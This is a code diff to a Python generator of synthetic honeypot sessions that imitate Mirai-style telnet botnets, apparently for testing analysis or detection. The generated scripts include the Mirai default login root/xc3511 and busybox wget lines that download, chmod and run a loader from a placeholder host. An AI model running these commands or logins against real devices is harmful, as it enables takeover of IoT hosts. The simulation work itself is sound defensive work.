@@ -496,6 +496,26 @@ RECON_LINES = [
 ]
 
 
+def _busybox_token(rng: random.Random, length: int) -> str:
+    """A Mirai-style random upper-case token (``/bin/busybox ECCHI``), drawn per session."""
+    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(length))
+
+
+def _drop_name(rng: random.Random) -> str:
+    """A loader's random file name for its download."""
+    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 7)))
+
+
+def _telnet_bot_session(
+    rng: random.Random, ip: str, script: list[str], downloads: list[tuple[str, str | None]]
+) -> AttackSession:
+    """A bot's telnet session over the day: the Mirai default login, then its script."""
+    return session(
+        ip, rng.uniform(0, 86400), logins=[("root", "xc3511")], success=True,
+        commands=script, downloads=downloads, port=23,
+    )  # fmt: skip
+
+
 def _variant_botnet(rng: random.Random, n_bots: int) -> tuple[list[AttackSession], list[str], list[str]]:
     """A loader build whose bots skip optional steps and name their download at random, beside
     unrelated intruders typing common recon in their own order: (sessions, bots, intruders)."""
@@ -503,7 +523,7 @@ def _variant_botnet(rng: random.Random, n_bots: int) -> tuple[list[AttackSession
     loader = "http://203.0.113.9/bins/arm7"
     sessions = []
     for k, ip in enumerate(bots):
-        token = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(6))
+        token = _busybox_token(rng, 6)
         script = [
             "sh",
             "shell",
@@ -512,15 +532,10 @@ def _variant_botnet(rng: random.Random, n_bots: int) -> tuple[list[AttackSession
         ]
         downloads: list[tuple[str, str | None]] = []
         if k % 2:
-            drop = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 7)))
+            drop = _drop_name(rng)
             script.append(f"cd /tmp; /bin/busybox wget {loader} -O {drop}; chmod 777 {drop}; ./{drop} arm7")
             downloads.append((loader, "7c" * 32))
-        sessions.append(
-            session(
-                ip, rng.uniform(0, 86400), logins=[("root", "xc3511")], success=True,
-                commands=script, downloads=downloads, port=23,
-            )
-        )  # fmt: skip
+        sessions.append(_telnet_bot_session(rng, ip, script, downloads))
     intruders = [random_ip(rng) for _ in range(30)]
     for ip in intruders:
         commands = rng.sample(RECON_LINES, rng.randint(3, 5))
@@ -560,21 +575,16 @@ def _build_with_partial_runs(rng: random.Random) -> PartialBuild:
     loaders, stopped, bare = ([random_ip(rng) for _ in range(n)] for n in (16, 2, 2))
     sessions = []
     for ip in loaders + stopped + bare:
-        token = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(7))
+        token = _busybox_token(rng, 7)
         script = [*opening, f"/bin/busybox {token}"]
         downloads: list[tuple[str, str | None]] = []
         if ip not in bare:
             script.append(probe.format(token=token))
         if ip in loaders:
-            drop = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 7)))
+            drop = _drop_name(rng)
             script.append(f"/bin/busybox wget {loader_url} -O - > {drop}; /bin/busybox chmod 777 {drop}")
             downloads.append((loader_url, "9d" * 32))
-        sessions.append(
-            session(
-                ip, rng.uniform(0, 86400), logins=[("root", "xc3511")], success=True,
-                commands=script, downloads=downloads, port=23,
-            )
-        )  # fmt: skip
+        sessions.append(_telnet_bot_session(rng, ip, script, downloads))
     return sessions, loaders, stopped, bare
 
 
